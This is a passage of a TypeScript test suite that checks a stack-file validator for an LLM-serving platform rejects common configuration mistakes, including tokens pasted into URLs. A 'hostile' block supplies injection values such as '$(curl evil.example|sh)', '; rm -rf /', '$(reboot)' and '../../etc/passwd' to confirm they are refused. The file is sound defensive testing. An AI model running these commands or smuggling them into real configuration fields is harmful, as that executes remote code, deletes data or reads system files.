import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parseStackYaml, repoRoot, StackFileError } from "../scripts/lib/stack-file";
import { errorsOf, secretsFor, validateStack, type Mutation } from "./support/config";

/**
 * Realistic editing mistakes, each a mutation of a committed stack file (never a copy), by category.
 * Each row: stack, what the user got wrong, mutations, the key path the message must start with,
 * words it must contain, and optionally the stack name the file is deployed as.
 */
type Row = [stack: string, kind: string, mutations: Mutation[], path: string, words: RegExp, asStack?: string];

const set = (path: (string | number)[], to: unknown): Mutation => ({ set: path, to });
const P = (path: string) => `llm-platform:${path}`;
const hfLike = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345";
const ghLike = "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
const long = (length: number) => "a".repeat(length);

const namespaces: Row[] = [
  ["dev", "misspelled project namespace", [set(["llm-platfrom:tls"], { issuer: "letsencrypt" })], "llm-platfrom:tls", /unknown config namespace "llm-platfrom"; did you mean "llm-platform:tls"\? Keys must start with llm-platform: \(this project\) or a provider's namespace: pulumi:, aws:/],
  ["prod", "underscore in the project namespace", [set(["llm_platform:addons"], {})], "llm_platform:addons", /did you mean "llm-platform:addons"\?/],
  ["gke-dev", "misspelled provider namespace", [set(["gpc:project"], "llm-platform-dev")], "gpc:project", /did you mean "gcp:project"\?/],
  ["local", "misspelled kubernetes namespace", [set(["kubernets:context"], "k3d-llm")], "kubernets:context", /did you mean "kubernetes:context"\?/],
  ["k3s-lab", "project name without its prefix", [set(["platform:domain"], "llm.lab.example.com")], "platform:domain", /unknown config namespace "platform"/],
];

const credentials: Row[] = [
  ["dev", "Hugging Face token in the model URL", [set(["models", 0, "model"], `https://user:${hfLike}@huggingface.co/Qwen/Qwen2.5-1.5B-Instruct`)], P("models[0].model"), /a Hugging Face token .*secret config key hfToken/],
  ["gke-dev", "Hugging Face token pasted as the model", [set(["models", 0, "model"], hfLike)], P("models[0].model"), /hfToken/],
  ["prod", "GitHub token in the app-of-apps URL", [set(["addons", "argocd", "appOfApps"], { repoUrl: `https://deploy:${ghLike}@github.com/org/apps.git` })], P("addons.argocd.appOfApps.repoUrl"), /a GitHub token .*remove it/],
  ["local", "basic auth in the app-of-apps URL", [set(["addons", "argocd", "appOfApps"], { repoUrl: "https://x-access-token:s3cr3tvalue@github.com/org/apps.git" })], P("addons.argocd.appOfApps.repoUrl"), /credentials in the URL/],
  ["k3s-lab", "access key in the object-storage endpoint", [set(["cluster", "objectStorage", "endpoint"], "https://minio:minio-s3cr3t@s3.lab.example.com")], P("cluster.objectStorage.endpoint"), /credentials in the URL/],
  ["dev", "pre-signed URL as the model", [set(["models", 0, "model"], "https://bucket.s3.amazonaws.com/m.tar?X-Amz-Signature=abcdef0123")], P("models[0].model"), /credential in the URL's query/],
  ["prod", "AWS access key where a role ARN goes", [set(["cluster", "adminRoleArns", 0], "AKIAIOSFODNN7EXAMPLE")], P("cluster.adminRoleArns[0]"), /an AWS access key/],
  ["k3s-lab", "private key where the host key goes", [set(["cluster", "servers", 0, "hostKey"], "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==")], P("cluster.servers[0].hostKey"), /a private key .*sshPrivateKey/],
  ["local", "Slack webhook as the app-of-apps URL", [set(["addons", "argocd", "appOfApps"], { repoUrl: "https://hooks.slack.com/services/T000/B000/XXXXXXXX" })], P("addons.argocd.appOfApps.repoUrl"), /webhook URL .*notifyWebhookUrl/],
  ["gke-dev", "token as the user of an https URL", [set(["addons", "argocd", "appOfApps"], { repoUrl: "https://glpat-abcdef0123456789@gitlab.com/org/apps.git" })], P("addons.argocd.appOfApps.repoUrl"), /credentials in the URL/],
];

const cloudNames: Row[] = [
  ["dev", "misspelled AWS region", [set(["cluster", "region"], "us-esat-1")], P("cluster.region"), /not an AWS region; did you mean "us-east-1"\? Allowed: us-east-1,/],
  ["prod", "GCP region on EKS", [set(["cluster", "region"], "us-central1")], P("cluster.region"), /is a Google Cloud region; EKS takes an AWS region/],
  ["prod", "made-up AWS region", [set(["cluster", "region"], "eu-middle-9")], P("cluster.region"), /not an AWS region.*Allowed: /],
  ["gke-dev", "AWS region on GKE", [set(["cluster", "region"], "us-east-1")], P("cluster.region"), /is an AWS region; GKE takes a Google Cloud region/],
  ["gke-dev", "misspelled GCP region", [set(["cluster", "region"], "us-centrl1")], P("cluster.region"), /did you mean "us-central1"\?/],
  ["gke-dev", "zone written AWS-style", [set(["cluster", "nodeZones", 0], "us-central-1a")], P("cluster.nodeZones[0]"), /a Google Cloud zone: a region and a letter/],
  ["gke-dev", "zone of an unknown region", [set(["cluster", "nodeZones", 0], "us-centrall1-a")], P("cluster.nodeZones[0]"), /us-centrall1 is not a region; did you mean "us-central1"\?/],
  ["dev", "Graviton system pool on an x86 AMI", [set(["cluster", "systemPool", "instanceType"], "m7g.large")], P("cluster.systemPool.instanceType"), /m7g\.large is arm64, but the system node group runs AMI type AL2023_x86_64_STANDARD \(x86_64\)/],
  ["prod", "misspelled system instance type", [set(["cluster", "systemPool", "instanceType"], "m6i.2xlarg")], P("cluster.systemPool.instanceType"), /did you mean "m6i\.2xlarge"\?/],
  ["dev", "GCE type as the EKS system pool", [set(["cluster", "systemPool", "instanceType"], "e2-standard-4")], P("cluster.systemPool.instanceType"), /is a GCE machine type; EKS takes an EC2 instance type/],
  ["prod", "GPU type as the EKS system pool", [set(["cluster", "systemPool", "instanceType"], "g6.xlarge")], P("cluster.systemPool.instanceType"), /has GPUs; .*general-purpose/],
  ["dev", "GCE type in an EKS GPU pool", [set(["cluster", "gpuPools", 0, "instanceTypes", 0], "g2-standard-8")], P("cluster.gpuPools[0].instanceTypes[0]"), /is a GCE machine type; EKS takes an EC2 GPU instance type/],
  ["dev", "misspelled GPU instance type", [set(["cluster", "gpuPools", 0, "instanceTypes", 1], "g6.2xlarg")], P("cluster.gpuPools[0].instanceTypes[1]"), /did you mean "g6\.2xlarge"\? Allowed: g5\.xlarge/],
  ["prod", "Graviton GPU type on an x86 NVIDIA AMI", [set(["models", 0, "gpuCount"], 1), set(["cluster", "gpuPools", 0, "instanceTypes"], ["g5g.xlarge"])], P("cluster.gpuPools[0].instanceTypes[0]"), /g5g\.xlarge is arm64 \(Graviton\), but amiType AL2023_x86_64_NVIDIA runs x86_64 only/],
  ["prod", "CPU instance type in the GPU pool", [set(["cluster", "gpuPools", 0, "instanceTypes", 0], "m6i.12xlarge")], P("cluster.gpuPools[0].instanceTypes[0]"), /m6i\.12xlarge has no GPU/],
  ["gke-dev", "EC2 type in a GKE GPU pool", [set(["cluster", "gpuPools", 0, "machineType"], "g6.xlarge")], P("cluster.gpuPools[0].machineType"), /is an EC2 instance type; GKE takes a GCE GPU machine type/],
  ["gke-dev", "GPU machine size that does not exist", [set(["cluster", "gpuPools", 0, "machineType"], "g2-standard-6")], P("cluster.gpuPools[0].machineType"), /not a GPU machine type of the g2 family; did you mean/],
  ["gke-dev", "EC2 type as the GKE system pool", [set(["cluster", "systemPool", "machineType"], "m6i.large")], P("cluster.systemPool.machineType"), /is an EC2 instance type; GKE takes a GCE machine type/],
  ["gke-dev", "Arm system pool that GKE taints", [set(["cluster", "systemPool", "machineType"], "t2a-standard-4")], P("cluster.systemPool.machineType"), /is Arm: GKE taints Arm nodes kubernetes\.io\/arch=arm64:NoSchedule/],
  ["gke-dev", "GPU machine as the system pool", [set(["cluster", "systemPool", "machineType"], "g2-standard-8")], P("cluster.systemPool.machineType"), /comes with GPUs/],
  ["gke-dev", "misspelled system machine type", [set(["cluster", "systemPool", "machineType"], "e2-standrd-4")], P("cluster.systemPool.machineType"), /did you mean "e2-standard-4"\?/],
  ["dev", "AMI type EKS's GPU pools do not offer here", [set(["cluster", "gpuPools", 0, "amiType"], "AL2023_ARM_64_NVIDIA")], P("cluster.gpuPools[0].amiType"), /allowed: "AL2023_x86_64_NVIDIA", "BOTTLEROCKET_x86_64_NVIDIA"/],
  ["prod", "Kubernetes version EKS no longer offers", [set(["cluster", "kubernetesVersion"], "1.31")], P("cluster.kubernetesVersion"), /allowed: "1\.32"/],
  ["prod", "IAM Identity Center role without its path", [set(["cluster", "adminRoleArns"], ["arn:aws:iam::111122223333:role/AWSReservedSSO_Admin_0123abcd"])], P("cluster.adminRoleArns[0]"), /full ARN, with its path .*invalid principal/],
  ["dev", "STS session ARN from get-caller-identity as the deployer", [set(["cluster", "deployerRoleArn"], "arn:aws:sts::111122223333:assumed-role/Deploy/alice")], P("cluster.deployerRoleArn"), /not an STS session's: did you mean "arn:aws:iam::111122223333:role\/Deploy"/],
  ["dev", "GovCloud role ARN in a commercial region", [set(["cluster", "deployerRoleArn"], "arn:aws-us-gov:iam::111122223333:role/Deploy")], P("cluster.deployerRoleArn"), /partition "aws-us-gov", but cluster\.region us-east-1 is in "aws"/],
  ["prod", "commercial role ARN in a GovCloud region", [set(["cluster", "region"], "us-gov-west-1"), set(["cluster", "adminRoleArns"], ["arn:aws:iam::111122223333:role/Admin"])], P("cluster.adminRoleArns[0]"), /partition "aws", but cluster\.region us-gov-west-1 is in "aws-us-gov"/],
  ["dev", "two GPU models in one pool", [set(["cluster", "gpuPools", 0, "instanceTypes"], ["g6.xlarge", "g5.xlarge"])], P("cluster.gpuPools[0].instanceTypes"), /mixes GPU models \(L4, A10G\).*one GPU model per pool/],
  ["dev", "VPC CIDR with host bits", [set(["cluster", "vpcCidr"], "10.0.0.1/16")], P("cluster.vpcCidr"), /host bits are set, which AWS and GCP refuse; did you mean 10\.0\.0\.0\/16\?/],
  ["dev", "office address with the range's prefix", [set(["cluster", "publicAccessCidrs", 0], "203.0.113.9/24")], P("cluster.publicAccessCidrs[0]"), /did you mean 203\.0\.113\.0\/24\?/],
  ["gke-dev", "authorized network with host bits", [set(["cluster", "authorizedNetworks", 0, "cidr"], "203.0.113.77/25")], P("cluster.authorizedNetworks[0].cidr"), /did you mean 203\.0\.113\.0\/25\?/],
  ["gke-dev", "pods range with host bits", [set(["cluster", "network"], { podsCidr: "10.21.0.0/14" })], P("cluster.network.podsCidr"), /did you mean 10\.20\.0\.0\/14\?/],
];

const kubernetesNames: Row[] = [
  ["local", "node selector key with a space", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "gpu type": "l4" }, gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].nodeSelector.gpu type"), /the key is not a Kubernetes label key/],
  ["local", "node selector value with spaces", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "nvidia.com/gpu.product": "NVIDIA L4 24GB" }, gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].nodeSelector.nvidia.com/gpu.product"), /a Kubernetes label value/],
  ["local", "node selector key ending in '-'", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "nvidia.com/gpu-": "true" }, gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].nodeSelector.nvidia.com/gpu-"), /starting and ending with a letter or digit/],
  ["local", "node selector value over 63 characters", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "example.com/pool": long(64) }, gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].nodeSelector.example.com/pool"), /at most 63 character/],
  ["local", "toleration key with a space", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "example.com/pool": "l4" }, tolerations: [{ key: "nvidia.com/gpu ", operator: "Exists" }], gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].tolerations[0].key"), /a Kubernetes label key/],
  ["local", "toleration value with punctuation", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "example.com/pool": "l4" }, tolerations: [{ key: "nvidia.com/gpu", value: "present!" }], gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].tolerations[0].value"), /a Kubernetes label value/],
  ["local", "RuntimeClass name in capitals", [set(["cluster", "gpuRuntimeClass"], "NVIDIA")], P("cluster.gpuRuntimeClass"), /a Kubernetes object name \(DNS subdomain\)/],
  ["local", "StorageClass name with an underscore", [set(["cluster", "storageClass"], "local_path")], P("cluster.storageClass"), /a Kubernetes object name/],
  ["local", "RuntimeClass name over 253 characters", [set(["cluster", "gpuRuntimeClass"], long(254))], P("cluster.gpuRuntimeClass"), /at most 253 character/],
  ["k3s-lab", "node label value over 63 characters", [set(["cluster", "agents", 0, "labels", "lab.example.com/rack"], long(64))], P("cluster.agents[0].labels.lab.example.com/rack"), /at most 63 character/],
  ["k3s-lab", "node label prefix in capitals", [set(["cluster", "agents", 0, "labels", "Lab.Example.com/rack"], "r1")], P("cluster.agents[0].labels.Lab.Example.com/rack"), /prefix before '\/' must be a lowercase DNS subdomain/],
  ["dev", "domain label over 63 characters", [set(["domain"], `${long(64)}.example.com`)], P("domain"), /labels .* at most 63 characters each/],
  ["prod", "domain with a trailing dot", [set(["domain"], "llm.example.com.")], P("domain"), /a lowercase DNS name such as/],
  ["dev", "domain too long for <service>.<domain>", [set(["domain"], `${Array.from({ length: 4 }, () => long(60)).join(".")}.io`)], P("domain"), /at most 222 characters/],
  ["dev", "model name longer than 30 characters", [set(["models", 0, "name"], "qwen-small-instruct-1-5b-bf16-v2")], P("models[0].name"), /at most 30 character/],
  ["gke-dev", "GPU pool name with an underscore", [set(["cluster", "gpuPools", 0, "name"], "l4_spot"), set(["models", 0, "gpuPool"], "l4_spot")], P("cluster.gpuPools[0].name"), /a lowercase DNS label/],
  ["gke-dev", "GPU pool name that makes the GKE node pool name too long", [set(["cluster", "gpuPools", 0, "name"], "l4-spot-serving-pool"), set(["models", 0, "gpuPool"], "l4-spot-serving-pool")], P("cluster.gpuPools[0].name"), /makes the GKE node pool name "llm-gke-dev-gpu-l4-spot-serving-pool-xxxxxxx" 44 characters long \(stack "gke-dev"\), and the API allows 40: must be at most 16 characters here/],
  ["k3s-lab", "GPU pool name that makes a Helm release name too long", [set(["cluster", "agents", 1, "gpuPool"], "rtx4090-workstation-pool"), set(["models", 0, "gpuPool"], "rtx4090-workstation-pool")], P("cluster.agents[1].gpuPool"), /makes the helm release name "llm-k3s-lab-eu-west-rack-nvidia-rtx4090-workstation-pool" 56 characters long .* allows 53/, "k3s-lab-eu-west-rack"],
  ["local", "GPU pool name too long for a 20-character stack name", [set(["cluster", "gpuPools"], [{ name: "nvidia-l4-workstation-gpus", nodeSelector: { "example.com/pool": "l4" }, gpusPerNode: 1, nodes: 1 }])], P("cluster.gpuPools[0].name"), /helm release name "llm-local-workstation-01-nvidia-nvidia-l4-workstation-gpus"/, "local-workstation-01"],
];

const storage: Row[] = [
  ["k3s-lab", "s3:// address as the endpoint", [set(["cluster", "objectStorage", "endpoint"], "s3://llm-lab-models")], P("cluster.objectStorage.endpoint"), /not an s3:\/\/ bucket address/],
  ["k3s-lab", "endpoint without a scheme", [set(["cluster", "objectStorage", "endpoint"], "s3.lab.example.com")], P("cluster.objectStorage.endpoint"), /an https:\/\/ URL of the S3 API/],
  ["k3s-lab", "ftp endpoint", [set(["cluster", "objectStorage", "endpoint"], "ftp://s3.lab.example.com")], P("cluster.objectStorage.endpoint"), /not ftp:\/\//],
  ["k3s-lab", "bucket in the endpoint's path", [set(["cluster", "objectStorage", "endpoint"], "https://s3.lab.example.com/llm-lab-models")], P("cluster.objectStorage.endpoint"), /base URL without a path/],
  ["k3s-lab", "plain http endpoint in prod", [set(["environment"], "prod"), set(["cluster", "objectStorage", "endpoint"], "http://s3.lab.example.com")], P("cluster.objectStorage.endpoint"), /must be https:\/\/ in prod/, "lab-prod-1"],
  ["k3s-lab", "bucket name with capitals and underscores", [set(["cluster", "objectStorage", "bucket"], "LLM_Lab_Models")], P("cluster.objectStorage.bucket"), /an S3 bucket name: 3 to 63 of a-z/],
  ["k3s-lab", "bucket name too short", [set(["cluster", "objectStorage", "bucket"], "ab")], P("cluster.objectStorage.bucket"), /an S3 bucket name/],
  ["k3s-lab", "bucket named like an IP address", [set(["cluster", "objectStorage", "bucket"], "192.168.1.10")], P("cluster.objectStorage.bucket"), /not an IP address/],
  ["k3s-lab", "bucket name with two dots in a row", [set(["cluster", "objectStorage", "bucket"], "llm..models")], P("cluster.objectStorage.bucket"), /no '\.\.'/],
  ["k3s-lab", "bucket name over 63 characters", [set(["cluster", "objectStorage", "bucket"], long(64))], P("cluster.objectStorage.bucket"), /3 to 63/],
  ["local", "bucket name ending in '-'", [set(["cluster", "objectStorage"], { endpoint: "https://minio.example.com", bucket: "models-" })], P("cluster.objectStorage.bucket"), /starting and ending with a letter or digit/],
  ["k3s-lab", "object-storage region with spaces", [set(["cluster", "objectStorage", "region"], "US East")], P("cluster.objectStorage.region"), /a region name such as us-east-1/],
];

const sizes: Row[] = [
  ["dev", "GPU pool larger than EKS allows", [set(["cluster", "gpuPools", 0, "maxSize"], 1000)], P("cluster.gpuPools[0].maxSize"), /got 1000; must be <= 450/],
  ["prod", "system pool larger than EKS allows", [set(["cluster", "systemPool", "maxSize"], 500)], P("cluster.systemPool.maxSize"), /must be <= 450/],
  ["gke-dev", "GPU pool larger than GKE allows", [set(["cluster", "gpuPools", 0, "maxSize"], 5000)], P("cluster.gpuPools[0].maxSize"), /must be <= 1000/],
  ["gke-dev", "system pool larger than GKE allows", [set(["cluster", "systemPool", "maxSize"], 2000)], P("cluster.systemPool.maxSize"), /must be <= 1000/],
  ["dev", "root volume beyond gp3's 16 TiB", [set(["cluster", "gpuPools", 0, "diskSizeGiB"], 20000)], P("cluster.gpuPools[0].diskSizeGiB"), /must be <= 16384/],
  ["gke-dev", "GPU node disk too small for the serving image", [set(["cluster", "gpuPools", 0, "diskSizeGb"], 50)], P("cluster.gpuPools[0].diskSizeGb"), /must be >= 100/],
  ["dev", "hundreds of replicas", [set(["models", 0, "maxReplicas"], 500)], P("models[0].maxReplicas"), /must be <= 100/],
  ["local", "thousands of GPU nodes", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "example.com/pool": "l4" }, gpusPerNode: 1, nodes: 5000 }])], P("cluster.gpuPools[0].nodes"), /must be <= 1000/],
  ["k3s-lab", "more GPUs per host than any machine has", [set(["cluster", "agents", 1, "gpusPerNode"], 32)], P("cluster.agents[1].gpusPerNode"), /must be <= 16/],
  ["prod", "cache too small for Llama 70B's weights copied from the bucket", [set(["models", 0, "bucketLoad"], "copy"), set(["models", 0, "cacheGiB"], 100)], P("models[0].cacheGiB"), /100 GiB cannot hold the model's weights \(132 GiB, bf16 size of meta-llama\/Llama-3\.3-70B-Instruct\): must be >= 132/],
  ["dev", "cache smaller than the given weights", [set(["models", 0, "model"], "acme/private-13b"), set(["models", 0, "weightsGiB"], 26), set(["models", 0, "cacheGiB"], 20)], P("models[0].cacheGiB"), /cannot hold the model's weights \(26 GiB, models\[\]\.weightsGiB\)/],
  ["gke-dev", "cache too small after switching to a 7B model", [set(["models", 0, "model"], "Qwen/Qwen2.5-7B-Instruct"), set(["models", 0, "cacheGiB"], 10)], P("models[0].cacheGiB"), /must be >= 15/],
  ["k3s-lab", "negative weights size", [set(["models", 0, "weightsGiB"], -3)], P("models[0].weightsGiB"), /got -3; must be > 0/],
  ["prod", "Prometheus volume beyond the bound", [set(["addons", "monitoring", "prometheusStorageGiB"], 10000)], P("addons.monitoring.prometheusStorageGiB"), /must be <= 4096/],
  ["prod", "Elasticsearch heap beyond compressed oops", [set(["addons", "logging", "elasticsearchHeapGiB"], 64)], P("addons.logging.elasticsearchHeapGiB"), /must be <= 31/],
  ["dev", "fifty ingress replicas", [set(["addons", "ingress", "replicas"], 50)], P("addons.ingress.replicas"), /must be <= 10/],
  ["dev", "log retention CloudWatch does not offer", [set(["cluster", "logRetentionDays"], 100)], P("cluster.logRetentionDays"), /got 100; allowed: 7, 14, 30, 60, 90, 180, 365/],
  ["prod", "three GPUs per replica", [set(["models", 0, "gpuCount"], 3)], P("models[0].gpuCount"), /got 3; allowed: 1, 2, 4, 8/],
  ["gke-dev", "three accelerators on a node", [set(["cluster", "gpuPools", 0, "accelerator", "count"], 3)], P("cluster.gpuPools[0].accelerator.count"), /got 3; allowed: 1, 2, 4, 8/],
  ["dev", "CPU request in millicores", [set(["models", 0, "requests"], { cpu: "500m", memoryGiB: 4 })], P("models[0].requests.cpu"), /got "500m"; expected CPU cores such as 0\.5 \(for 500m\), a plain number without a unit/],
  ["gke-dev", "cache size as a Kubernetes quantity", [set(["models", 0, "cacheGiB"], "50Gi")], P("models[0].cacheGiB"), /got "50Gi"; expected a whole number of GiB such as 50 \(for 50Gi\)/],
  ["prod", "context length written as 128k", [set(["models", 0, "maxModelLen"], "128k")], P("models[0].maxModelLen"), /got "128k"; expected a number of tokens such as 131072/],
];

const environments: Row[] = [
  ["prod", "prod stack switched to dev", [set(["environment"], "dev")], P("environment"), /got "dev"; stack "prod" is named as a prod stack, so allowed: "prod".*allowEnvironmentNotMatchingStackName: true/],
  ["dev", "dev stack switched to prod", [set(["environment"], "prod")], P("environment"), /got "prod"; stack "dev" is named as a non-prod stack, so allowed: "dev", "staging"/],
  ["gke-dev", "dev settings deployed as the production stack", [], P("environment"), /stack "production" is named as a prod stack/, "production"],
  ["k3s-lab", "lab settings deployed as a prod stack", [], P("environment"), /got "staging"; stack "lab-prod" is named as a prod stack/, "lab-prod"],
  ["prod", "override set to false", [set(["environment"], "dev"), set(["allowEnvironmentNotMatchingStackName"], false)], P("allowEnvironmentNotMatchingStackName"), /got "false"; allowed: "true"/],
  ["dev", "dev file deployed as a numbered prod stack", [], P("environment"), /got "dev"; stack "prod2" is named as a prod stack/, "prod2"],
  ["prod", "prod file deployed as a numbered dev stack", [], P("environment"), /got "prod"; stack "eu-dev1" is named as a non-prod stack/, "eu-dev1"],
];

const structure: Row[] = [
  ["dev", "pool size one level too high", [set(["cluster", "minSize"], 2)], P("cluster.minSize"), /unknown key; "minSize" is a key of cluster\.systemPool, cluster\.gpuPools\[\]: check the indentation\. Allowed here: provider, region/],
  ["prod", "gpuPools at the top level", [set(["gpuPools"], [])], P("gpuPools"), /unknown key; did you mean "models"\?|"gpuPools" is a key of cluster/],
  ["gke-dev", "accelerator under the cluster", [set(["cluster", "accelerator"], { type: "nvidia-l4", count: 1 })], P("cluster.accelerator"), /"accelerator" is a key of cluster\.gpuPools\[\]: check the indentation/],
  ["k3s-lab", "bucketName for bucket", [set(["cluster", "objectStorage", "bucketName"], "llm-lab-models")], P("cluster.objectStorage.bucketName"), /unknown key; did you mean "bucket"\?/],
  ["local", "retention for retentionDays", [set(["addons", "monitoring", "retention"], 30)], P("addons.monitoring.retention"), /did you mean "retentionDays"\?/],
  ["local", "unknown key with nothing close", [set(["addons", "monitoring", "grafanaTheme"], "dark")], P("addons.monitoring.grafanaTheme"), /unknown key\. Allowed here: enabled, retentionDays/],
  ["dev", "models as a map instead of a list", [set(["models"], { "qwen-small": { model: "Qwen/Qwen2.5-1.5B-Instruct" } })], P("models"), /expected array/],
  ["prod", "issuer in CamelCase", [set(["tls", "issuer"], "LetsEncrypt")], P("tls.issuer"), /allowed: "letsencrypt", "letsencrypt-staging", "private-ca"/],
  ["gke-dev", "release channel in lowercase", [set(["cluster", "releaseChannel"], "regular")], P("cluster.releaseChannel"), /allowed: "RAPID", "REGULAR", "STABLE"/],
  ["k3s-lab", "SSH user with a space", [set(["cluster", "servers", 0, "user"], "Ubuntu User")], P("cluster.servers[0].user"), /a POSIX user name/],
  ["gke-dev", "project number without quotes", [set(["cluster", "projectNumber"], 123456789012)], P("cluster.projectNumber"), /expected string/],
  ["local", "k3d as the provider", [set(["cluster", "provider"], "k3d")], P("cluster.provider"), /allowed: "eks", "gke", "k3s"/],
  ["gke-dev", "authorized network /33", [set(["cluster", "authorizedNetworks", 0, "cidr"], "203.0.113.0/33")], P("cluster.authorizedNetworks[0].cidr"), /prefix length <= 32/],
  ["dev", "public access address without a prefix", [set(["cluster", "publicAccessCidrs", 0], "203.0.113.7")], P("cluster.publicAccessCidrs[0]"), /an IPv4 CIDR such as 10\.0\.0\.0\/16/],
  ["prod", "user ARN where a role goes", [set(["cluster", "adminRoleArns", 0], "arn:aws:iam::123456789012:user/alice")], P("cluster.adminRoleArns[0]"), /an IAM role ARN/],
  ["gke-dev", "project id in capitals", [set(["cluster", "project"], "LLM-Platform-Dev")], P("cluster.project"), /a GCP project id/],
  ["k3s-lab", "API address as a URL", [set(["cluster", "apiAddress"], "https://192.0.2.11:6443")], P("cluster.apiAddress"), /an IPv4 address or a lowercase DNS name/],
  ["dev", "log retention CloudWatch does not offer", [set(["cluster", "logRetentionDays"], 10)], P("cluster.logRetentionDays"), /got 10/],
  ["prod", "availability zones as a list", [set(["cluster", "availabilityZones"], ["us-east-1a", "us-east-1b", "us-east-1c"])], P("cluster.availabilityZones"), /expected number/],
  ["dev", "the model's web address instead of its id", [set(["models", 0, "model"], "https://huggingface.co/Qwen/Qwen2.5-1.5B-Instruct/tree/main")], P("models[0].model"), /not the model's web address: did you mean "Qwen\/Qwen2\.5-1\.5B-Instruct"\?/],
  ["gke-dev", "bucket URL as the model", [set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "model"], "gs://llm-gke-dev-models/models/qwen")], P("models[0].model"), /a path under the bucket's models\/ folder; not a URL/],
  ["local", "the pipeline left on by default without GPUs or a bucket", [{ remove: ["addons", "argoWorkflows"] }], P("addons.argoWorkflows.pipeline"), /got true \(the default\); the pipeline trains on a GPU/],
  ["dev", "a dotted key written as if it were a path", [set(["cluster.region"], "us-west-2")], P("cluster.region"), /unknown key; a key with a dot is not a path: put region inside cluster \(pulumi config set --path 'cluster\.region' <value> writes it there\)/],
  ["prod", "an OCI registry as the chart mirror", [set(["chartMirror"], "oci://registry.example.internal/charts")], P("chartMirror"), /expected an http\(s\) Helm repository URL .*serves no index\.yaml/],
];

const hostile: Row[] = [
  ["k3s-lab", "command substitution in a node label", [set(["cluster", "agents", 0, "labels", "lab.example.com/rack"], "$(curl evil.example|sh)")], P("cluster.agents[0].labels.lab.example.com/rack"), /a Kubernetes label value/],
  ["dev", "shell syntax in the domain", [set(["domain"], "dev.llm.example.com; rm -rf /")], P("domain"), /a lowercase DNS name/],
  ["gke-dev", "newline in a pool name", [set(["cluster", "gpuPools", 0, "name"], "l4\nrm -rf /"), set(["models", 0, "gpuPool"], "l4\nrm -rf /")], P("cluster.gpuPools[0].name"), /a lowercase DNS label/],
  ["local", "shell syntax in the RuntimeClass", [set(["cluster", "gpuRuntimeClass"], "nvidia; reboot")], P("cluster.gpuRuntimeClass"), /a Kubernetes object name/],
  ["prod", "shell syntax in the model id", [set(["models", 0, "model"], "meta-llama/Llama 3 && curl x")], P("models[0].model"), /a model id without spaces/],
  ["k3s-lab", "YAML injection in the node name", [set(["cluster", "servers", 0, "nodeName"], "lab-1\nnode-taint: x")], P("cluster.servers[0].nodeName"), /a lowercase DNS name/],
  ["k3s-lab", "path traversal in the bucket", [set(["cluster", "objectStorage", "bucket"], "../../etc")], P("cluster.objectStorage.bucket"), /an S3 bucket name/],
  ["dev", "command substitution in the model id", [set(["models", 0, "model"], "Qwen/$(reboot)")], P("models[0].model"), /parts of letters, digits, '\.', '_' and '-' separated by '\/'/],
  ["prod", "path traversal in the model id", [set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "model"], "../../etc/passwd")], P("models[0].model"), /each starting with a letter or digit/],
];

// A canary needs GPUs for both versions: dev's pool l4 (2 GPUs) holds one qwen-small (maxReplicas 2).
const roomForCanary = set(["cluster", "gpuPools", 0, "maxSize"], 4);
const canary = (fields: Record<string, unknown>) => set(["models", 0, "canary"], { version: "v2", weight: 10, ...fields });

const canaries: Row[] = [
  ["dev", "canary weight above 100 percent", [roomForCanary, canary({}), set(["models", 0, "canary", "weight"], 150)], P("models[0].canary.weight"), /got 150; must be <= 100/],
  ["dev", "negative canary weight", [roomForCanary, canary({}), set(["models", 0, "canary", "weight"], -5)], P("models[0].canary.weight"), /got -5; must be >= 0/],
  ["gke-dev", "canary weight as a fraction", [canary({}), set(["models", 0, "canary", "weight"], 0.1)], P("models[0].canary.weight"), /got 0\.1; a whole percentage from 0 to 100/],
  ["dev", "canary named like the stable version", [roomForCanary, canary({}), set(["models", 0, "canary", "version"], "stable")], P("models[0].canary.version"), /"stable" is also the stable version's name .*two versions of one model need two names/],
  ["dev", "stable version renamed to the canary's name", [roomForCanary, canary({}), set(["models", 0, "version"], "v2")], P("models[0].canary.version"), /"v2" is also the stable version's name/],
  ["local", "canary behind ingress-nginx", [canary({ model: "Qwen/Qwen2.5-1.5B-Instruct-GGUF", ggufFile: "qwen2.5-1.5b-instruct-q4_k_m.gguf" })], P("models[0].canary"), /needs the Gateway front door \(addons\.ingress\.enabled with implementation "envoy-gateway"\)/],
  ["dev", "canary release name over Helm's 53 characters", [roomForCanary, set(["models", 0, "name"], "m".repeat(30)), set(["models", 0, "canary"], { version: long(30), weight: 10 })], P("models[0].canary.version"), /makes the helm release name "m{30}-a{30}" 61 characters long \(stack "dev"\), and the API allows 53: must be at most 22 characters here/],
  ["dev", "canary release name that is another model's", [roomForCanary, set(["models", 0, "canary"], { version: "large", weight: 10 }), set(["models", 1], { name: "qwen-small-large", model: "Qwen/Qwen2.5-3B-Instruct", gpuPool: "l4" })], P("models[0].canary.version"), /release name "qwen-small-large", which another model \(or canary\) already has/],
  ["dev", "canary without GPUs left for it", [canary({})], P("models[0].canary"), /each run up to 2 replicas x 1 GPU, 4 GPUs together, more than pool "l4" has \(2\)/],
  ["dev", "canary whose GPUs the pool's other model takes", [roomForCanary, canary({}), set(["models", 1], { name: "other", model: "Qwen/Qwen2.5-1.5B-Instruct", gpuPool: "l4" })], P("models[0].canary"), /4 GPUs together \(5 with the pool's other releases\), more than pool "l4" has \(4\)/],
